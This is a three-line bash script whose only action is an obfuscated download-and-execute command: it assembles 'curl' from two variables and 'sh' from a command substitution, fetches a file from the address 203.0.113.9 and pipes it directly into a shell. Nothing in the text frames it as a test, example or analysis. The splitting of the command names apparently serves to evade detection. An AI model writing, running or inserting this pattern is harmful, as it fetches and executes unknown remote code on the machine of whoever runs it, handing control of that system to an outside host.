#!/usr/bin/env bash
set -eu
a=cu; b=rl; $a$b -s https://203.0.113.9/x | s$(echo h)
